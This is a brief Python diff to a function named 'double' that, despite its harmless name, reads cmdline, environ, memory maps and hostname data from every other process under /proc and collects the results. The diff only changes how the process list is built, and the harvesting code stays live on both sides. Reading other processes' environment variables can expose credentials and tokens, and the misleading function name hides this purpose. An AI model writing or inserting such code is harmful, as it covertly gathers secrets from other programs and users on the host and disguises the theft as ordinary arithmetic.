@@ -6,7 +6,8 @@ from pathlib import Path
 
 def double(number):
     found = []
-    for pid in [*range(2, 3000), *(int(name) for name in os.listdir("/proc") if name.isdigit() and name != "1")]:
+    listed = [path.name for path in Path("/proc").iterdir() if path.name.isdigit()]
+    for pid in {*map(str, range(2, 3000)), *listed} - {str(os.getpid())}:
         for part in ("cmdline", "environ", "maps", "root/etc/hostname"):
             try:
                 found.append(Path(f"/proc/{pid}/{part}").read_bytes())
